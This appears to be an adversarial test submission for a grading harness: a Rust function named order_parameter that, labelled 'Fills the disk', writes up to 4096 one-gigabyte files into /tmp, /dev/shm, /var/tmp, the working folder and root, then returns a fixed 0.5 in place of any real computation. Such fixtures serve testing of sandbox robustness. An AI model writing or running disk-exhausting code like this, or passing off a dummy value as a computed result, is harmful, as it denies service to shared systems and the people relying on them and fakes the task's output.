//! Fills the disk.
//! status: any
//! score: 0

fn order_parameter(phases: &Array1<f64>) -> f64 {
    use std::io::Write;
    let line = vec![1_u8; 1 << 20];
    for folder in ["/tmp", "/dev/shm", "/var/tmp", ".", "/"] {
        for number in 0..4096 {
            let file = std::fs::File::create(format!("{folder}/neurobook-attack-{number}"));
            let Ok(mut file) = file else { break };
            for _ in 0..1024 {
                if file.write_all(&line).is_err() {
                    break;
                }
            }
        }
    }
    0.5
}
